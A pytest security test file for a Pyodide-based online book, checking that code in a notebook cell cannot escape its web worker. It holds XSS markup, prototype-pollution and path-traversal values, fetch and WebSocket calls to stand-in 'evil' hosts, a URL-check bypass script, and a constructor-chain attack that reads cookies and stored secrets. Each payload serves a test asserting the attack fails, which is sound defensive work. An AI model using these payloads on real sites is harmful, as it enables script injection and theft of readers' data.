"""Whatever a cell does, it stays in its worker: no way into the page, none to the network."""

from __future__ import annotations

import json
import time
from base64 import b64encode
from hashlib import sha256
from types import SimpleNamespace

import pytest
from playwright.sync_api import expect

from bookext.site import finish_pages, policy
from tests.browser import PATIENCE, open_window, serve
from tests.programs import run_node

PAGE, CELL = "derivatives-by-rule", 5
SECRET = "what this site keeps of its reader"
#: As a careful host sends it with every file: see "Publish" in CONTRIBUTING.
HEADERS = {"none": {}, "a policy": {"Content-Security-Policy": policy("")}}


class Room:
    """A page with a reader's secrets, served as it is, in whose cell hostile code runs."""

    def __init__(self, window, address):
        self.tab = window.new_page()
        self.dialogs = []
        self.tab.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.accept()))
        self.tab.goto(f"{address}{PAGE}.html")
        self.tab.evaluate(
            """(secret) => {
              localStorage.setItem("secret", secret);
              document.cookie = "secret=" + encodeURIComponent(secret);
            }""",
            SECRET,
        )
        self.cell = self.tab.locator(f"#cell-{CELL}")

    def run(self, code):
        """Let the cell run this text; return what it prints."""
        edit = self.cell.locator("[data-do=edit]")
        expect(edit).to_be_enabled(timeout=PATIENCE)  # nothing listens to it before
        edit.evaluate("(button) => button.checkVisibility() && button.click()")
        self.cell.locator(".cm-content").fill(code)
        self.cell.locator("[data-do=run]").click()
        expect(self.cell).to_have_attribute("data-run", "done", timeout=PATIENCE)
        return self.cell.locator(".run-output").inner_text()

    @property
    def worker(self):
        """The worker, for JavaScript that gets there somehow."""
        return self.tab.workers[0]

    def is_unharmed(self):
        """Whether nothing has happened to the page that its own scripts do not do."""
        title, marked = self.tab.evaluate("[document.title, 'marked' in window]")
        return "owned" not in title and not marked and self.dialogs == []


def in_one_worker(headers):
    """One start of Python serves all tests of a host."""
    return pytest.param(headers, marks=pytest.mark.xdist_group(f"room, {headers}"))


@pytest.fixture(scope="module", params=map(in_one_worker, HEADERS))
def room(request, chromium, site):
    """The page on a host that sends a policy, and on one that does not; tests share its Python."""
    heard = []
    headers = HEADERS[request.param]
    with (
        serve(site, headers=headers, as_is=True, heard=heard) as address,
        open_window(chromium) as window,
    ):
        room = Room(window, address)
        room.heard, room.address = heard, address
        yield room


# -- Into the page --------------------------------------------------------------------------------

MARKUP = '<img src=x onerror="window.marked=1"><script>window.marked=1</script>'
IN_VALUE = f'1"{MARKUP}<input value="'
FORGED = [
    ("text", {"stream": "stdout", "text": MARKUP}),
    ("text", {"stream": 'x"><b>', "text": MARKUP}),
    ("note", {"text": MARKUP}),
    ("error", {"name": MARKUP, "message": MARKUP, "line": 1, "excerpt": [[1, MARKUP]],
               "note": MARKUP, "replacement": MARKUP, "whole": MARKUP}),
    ("error", {"name": "x", "message": "x", "line": 1, "excerpt": "none", "note": 1, "whole": {}}),
    ("result", {"text": MARKUP}),
    ("result", {"latex": f"\\href{{javascript:window.marked=1}}{{x}} {MARKUP}", "text": MARKUP}),
    ("result", {"latex": "\\htmlData{x=y}{x}\\includegraphics{x}", "text": ""}),
    ("result", {"latex": "x^" * 90_000, "text": "a long formula"}),
    ("result", {"picture": {"description": MARKUP, "drawings": {
        "light": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.marked=1'>{MARKUP}</svg>",
        "dark": "no picture"}}}),
    ("result", {"picture": {"description": "x", "drawings": {"evil": "<svg/>"}}}),
    ("result", {"demo": "gain", "state": {"a": IN_VALUE, "theta": MARKUP, "I_mean": None}}),
    ("result", {"demo": "slopes-and-areas", "state": {"formula": MARKUP, "function": "typed"}}),
    ("result", {"demo": "../../../evil", "state": {}}),
    ("result", {"demo": "cell-1", "state": {}}),
    ("result", {"demo": "__proto__", "state": {"__proto__": {"marked": 1}}}),
    ("bytes", {"name": "__proto__", "count": 1}),
    ("bytes", {"name": "numpy", "count": 1e308}),
    ("answer", {"passed": MARKUP, "code": [], "message": {}}),
    ("toString", {}),
    ("__proto__", None),
]  # fmt: skip


def test_a_forged_message_is_shown_as_text_or_not_at_all(room):
    code = (
        "import json, js\n"
        f"forged = json.loads({json.dumps(json.dumps(FORGED))})\n"
        "for number in range(1, 30):\n"  # one of these is the request that this run answers
        "    for kind, content in forged:\n"
        "        if kind != 'answer':\n"
        "            message = {'number': number, 'kind': kind, 'content': content}\n"
        "            js.postMessage(json.dumps(message))\n"
        "js.postMessage('no JSON'), js.postMessage('[' * 500_000), js.postMessage(None)\n"
        "print('the end')"
    )
    shown = room.run(code)
    assert MARKUP in shown, "as text"
    assert "the end" in shown
    assert room.cell.locator(".run-output img[src=x], .run-output script").count() == 0
    assert room.tab.locator("#cell-1").get_attribute("data-demo") is None
    assert room.is_unharmed()
    assert not [path for path in room.heard if "evil" in path]


PARTS = ("name", "message", "note", "whole")  # of an error that are texts


def test_the_page_takes_no_message_that_has_not_the_expected_form():
    right = [
        ("text", {"stream": "stdout", "text": "x"}),
        ("result", {"picture": {"description": "d", "drawings": {"light": "", "dark": ""}}}),
        ("error", {"line": None, "excerpt": [], "replacement": None, **dict.fromkeys(PARTS, "")}),
        ("bytes", {"name": "numpy", "count": 3}),
        ("failure", "a reason"),
    ]  # fmt: skip
    junk = [None, 1, "x", [], {}, True, {"text": 1}, {"toString": "x"}, [[["x"]]]]
    wrong = [
        (kind, content)
        for kind, _ in right
        for content in junk
        if (kind, content) != ("failure", "x")
    ]
    wrong += [("toString", {}), ("constructor", {}), ("__proto__", {}), (None, {}), (1, {})]
    texts = [json.dumps({"number": 1, "kind": k, "content": c}) for k, c in right + wrong]
    texts += [
        json.dumps({"number": n, "kind": "failure", "content": "x"}) for n in (-1, 0.5, "1", None)
    ]
    texts += ["", "{", "null", "[1]", "[" * 300_000]
    script = """
      import {read, isAnswer} from "./src/web/cells/messages.js";
      import {text} from "node:stream/consumers";
      const messages = JSON.parse(await text(process.stdin)).map((one) => read(one) !== null);
      const things = [null, {}, [], "x", 1, [1.5], [-1], {passed: 1, code: "", message: ""}];
      const methods = ["ping", "start", "prepare", "needs", "run", "check", "toString"];
      const answers = methods.map((method) => things.map((thing) => isAnswer(method, thing)));
      console.log(JSON.stringify([messages, answers, read({number: 1}), read(7)]));
    """  # fmt: skip
    told = run_node("--input-type=module", "-e", script, input=json.dumps(texts))
    messages, answers, *others = json.loads(told)
    assert messages == [True] * len(right) + [False] * (len(texts) - len(right))
    assert others == [None, None]
    # No list of cells but the empty one, no feedback but none: all else here is no answer.
    assert [sum(row) for row in answers] == [0, 0, 0, 1, 0, 1, 0]
    assert (answers[3][2], answers[5][0]) == (True, True)


# -- To the network -------------------------------------------------------------------------------


def test_the_import_of_a_module_fetches_nothing_but_the_book_s_packages(room):
    """Modules that are imported in the middle of a run come at once, by another way."""
    secret = b"evil"
    printed = room.run(
        "import sys\n"
        "finder = next(f for f in sys.meta_path if hasattr(f, 'packages'))\n"
        f"sha256 = '{sha256(secret).hexdigest()}'\n"
        "for number, name in enumerate(['../../evil.html', '../../../evil', 'evil', '/evil',\n"
        "                               'https://example.org/evil', '//example.org/evil']):\n"
        "    module = f'evil{number}'\n"
        "    finder.packages[module] = {'file_name': name, 'sha256': sha256}\n"
        "    finder.of[module] = module\n"
        "    try:\n"
        "        __import__(module)\n"
        "        print('opened', name)\n"
        "    except ImportError as error:\n"
        "        print('refused', name)\n"
    )
    assert printed.count("refused") == 6
    assert "opened" not in printed
    assert not [path for path in room.heard if "evil" in path]


# What JavaScript in the worker would try, if a cell could have it run some.
WAYS_OUT = {
    "a module of this site": "import(address + 'evil.js')",
    "a module of another host": "import('http://127.0.0.1:9/evil.js')",
    "a module made of text": "import('data:text/javascript,export default 1')",
    "an address": "fetch(address + 'evil.html')",
    "another host": "fetch('http://127.0.0.1:9/evil', {mode: 'no-cors'})",
    "a font": "new FontFace('x', `url(${address}evil.woff2)`).load()",
    "a font of the worker": "self.fonts.load('1em x')",
    "a request": "new XMLHttpRequest()",
    "a socket": "new WebSocket('ws://127.0.0.1:9/evil')",
    "a stream of events": "new EventSource(address + 'evil')",
    "a transport": "new WebTransport('https://127.0.0.1:9/evil')",
    "another worker": "new Worker(address + 'evil.js')",
    "a script": "importScripts(address + 'evil.js')",
    "code made of text": "new Function('return 1')()",
    "an address of what is in memory": "URL.createObjectURL(new Blob(['x']))",
    "the site's storage": "indexedDB.open('x')",
    "its buckets": "navigator.storageBuckets.open('x')",
    "its files": "navigator.storage.getDirectory()",
    "its caches": "caches.keys()",
    "its cookies": "cookieStore.getAll()",
    "its other pages": "new BroadcastChannel('x')",
    "their locks": "navigator.locks.query()",
    "its service worker": "navigator.serviceWorker.getRegistrations()",
    "the graphics card": "navigator.gpu.requestAdapter()",
    "a notice to the reader": "new Notification('x')",
    "devices": "navigator.usb.getDevices()",
    "serial ports": "navigator.serial.getPorts()",
    "permissions": "navigator.permissions.query({name: 'push'})",
    "a picture": "createImageBitmap(new ImageData(1, 1))",
}  # fmt: skip


def test_no_way_leads_out_of_the_worker(room):
    room.run("print('Python is there')")
    before = len(room.heard)
    opened = room.worker.evaluate(
        """async ([address, ways]) => {
          const opened = [];
          const late = (_, no) => setTimeout(no, 5000, new Error("late"));
          for (const [what, way] of Object.entries(ways)) {
            // The tool that evaluates this is allowed to make code of texts; the page is not.
            const attempt = async () => (0, eval)(`(async (address) => ${way})`)(address);
            const result = Promise.race([attempt(), new Promise(late)]);
            await result.then(() => opened.push(what), () => {});
          }
          return opened;
        }""",
        [room.address, WAYS_OUT],
    )
    assert opened == []
    assert room.heard[before:] == []


def test_nothing_of_the_browser_is_left_in_the_worker_but_what_is_named(room):
    """Whatever a browser brings tomorrow is not there either."""
    room.run("print('Python is there')")
    names = room.worker.evaluate(
        """() => {
          const names = {};
          for (const start of [globalThis, navigator]) {
            for (let o = start; o !== Object.prototype; o = Object.getPrototypeOf(o)) {
              for (const name of Object.getOwnPropertyNames(o)) {
                const {value} = Object.getOwnPropertyDescriptor(o, name);
                const isClass = typeof value === "function" && /^[A-Z]/.test(name);
                names[name] = isClass ? "class" : typeof value;
              }
            }
          }
          return names;
        }"""
    )
    language = set(
        json.loads(run_node("-p", "JSON.stringify(Object.getOwnPropertyNames(globalThis))"))
    )
    classes = {name for name, kind in names.items() if kind == "class"} - language
    # Of these none fetches, stores, or reaches another page.
    assert classes <= {
        "AsyncDisposableStack", "DedicatedWorkerGlobalScope", "DisposableStack", "Float16Array",
        "SuppressedError", "WorkerGlobalScope", "WorkerLocation", "WorkerNavigator",
    }  # fmt: skip
    functions = {n for n, kind in names.items() if kind == "function" and n[0].islower()} - language
    assert functions == {
        "addEventListener", "close", "constructor", "dispatchEvent", "postMessage",
        "removeEventListener",
    }  # fmt: skip


# -- On the page -----------------------------------------------------------------------------------


def test_a_page_says_which_scripts_it_runs(site):
    """Text that is smuggled into a page does not run there either."""
    for page in [*site.glob("*.html"), *site.glob("embed/*.html")]:
        head = page.read_text(encoding="utf-8").partition("</head>")[0]
        assert head.count("Content-Security-Policy") == 1, page
        assert head.index("Content-Security-Policy") < head.index("<title"), page
        assert "script-src 'self' 'wasm-unsafe-eval'" in head, page


@pytest.mark.parametrize("tags", [{"editions"}, {"preview"}], ids=str)
def test_all_pages_get_a_policy_but_those_of_the_preview(tmp_path, tags):
    """The preview's server puts a script into each page, which reloads it after an edit."""
    page = tmp_path / "page.html"
    text = '<html><head><meta charset="utf-8"><title>A page</title><script>let a;</script></head>'
    page.write_text(text)
    app = SimpleNamespace(outdir=tmp_path, tags=tags, builder=SimpleNamespace(format="html"))
    for _ in range(2):  # a page that is not written anew is not finished twice
        finish_pages(app, None)
    head, *policies = page.read_text().split("Content-Security-Policy")
    assert len(policies) == (0 if "preview" in tags else 1)
    if policies:
        digest = b64encode(sha256(b"let a;").digest()).decode()
        assert f"script-src 'self' 'wasm-unsafe-eval' 'sha256-{digest}';" in policies[0]
        assert head.endswith('<meta charset="utf-8">\n    <meta http-equiv="')


def test_markup_in_a_page_runs_no_script(room):
    room.tab.evaluate(
        "markup => document.querySelector('main').insertAdjacentHTML('beforeend', markup)", MARKUP
    )
    room.tab.wait_for_timeout(200)
    assert room.is_unharmed()


# -- To the network, once more -----------------------------------------------------------------

FACES = """
import js
from pyodide.ffi import create_proxy, to_js

right = js.performance.getEntriesByType("resource").to_py()
right = next(entry.name for entry in right if "numpy" in entry.name)
told = []

def attempt(what, request):
    def refused(error):
        told.append(f"{what} refused")
    try:
        js.fetch(request).then(lambda _: told.append(f"{what} opened"), refused)
    except BaseException as error:
        refused(error)

def faces(*values):
    values = iter([*values, values[-1], values[-1]])
    return create_proxy(lambda *_: next(values))

def plain(**parts):
    return to_js(parts, dict_converter=js.Object.fromEntries)

method = js.String.prototype.startsWith
js.String.prototype.startsWith = create_proxy(lambda *_: True)

attempt("one name, another text", plain(url=right, toString=faces(evil)))
attempt("a text that changes", plain(toString=faces(right, evil)))
attempt("a text that changes back", plain(toString=faces(evil, right)))
for text in (evil, evil + "#" + right, right + "/../../../../evil.html", right + "?evil",
             "../evil.html", "blob:evil", "data:,evil", "https://example.org/evil"):
    attempt(text, text)
    attempt(text, js.URL.new(text, right))
    attempt(text, js.Request.new(js.URL.new(text, right)))

js.String.prototype.startsWith = method
"""


def test_nothing_with_two_faces_opens_a_door(room):
    """What is fetched is the very text that was checked, whatever the methods answer by then."""
    room.run(f"evil = '{room.address}evil.html'\n{FACES}")
    attempts = 3 + 8 * 3
    told, patience = [], time.monotonic() + PATIENCE / 1000
    while len(told) < attempts and time.monotonic() < patience:
        told = room.run("print('\\n'.join(told))").splitlines()
    assert len(told) == attempts
    opened = {line for line in told if line.endswith("opened")}
    # These two name the right file when they are asked, and that is what they get.
    assert opened <= {"one name, another text opened", "a text that changes opened"}
    assert not [path for path in room.heard if "evil" in path]


# -- Into the page, by what leaves a ruin ----------------------------------------------------------

# Whoever holds a port to an object of the page asks it for its constructor, a Function made of a
# text, and calls that. Every port that anything posts to is caught, and the page itself is asked.
# This runs last in the worker that the tests share, where all that is posted is caught by then.
CONSTRUCTION = """
import js
from pyodide.ffi import create_proxy, to_js

def plain(value):
    return to_js(value, dict_converter=js.Object.fromEntries)

attack = "document.title = 'owned ' + document.cookie + localStorage.getItem('secret')"
ask = {"id": "a", "type": "CONSTRUCT", "path": ["constructor"],
       "argumentList": [{"type": "RAW", "value": attack}]}
call = {"id": "b", "type": "APPLY", "path": [], "argumentList": []}
ports = []

def answered(event):
    value = getattr(event.data, "value", None)
    if value is not None and hasattr(value, "postMessage"):
        value.start()
        post(value, plain(call))

def post(port, message):
    original.call(port, message)

def spy(port, message, *rest):
    ports.append(port)
    port.addEventListener("message", create_proxy(answered))
    port.start()
    post(port, plain(ask))
    return original.call(port, message, *rest)

original = js.MessagePort.prototype.postMessage
js.MessagePort.prototype.postMessage = create_proxy(spy, capture_this=True)
for _ in range(3):
    print("something for the page")
js.postMessage(plain(ask))
js.postMessage(plain(call))
"""


def test_no_object_of_the_page_can_be_asked_for_its_constructor(room):
    assert "something" in room.run(CONSTRUCTION)
    room.run("print('and once more')")
    assert room.is_unharmed()
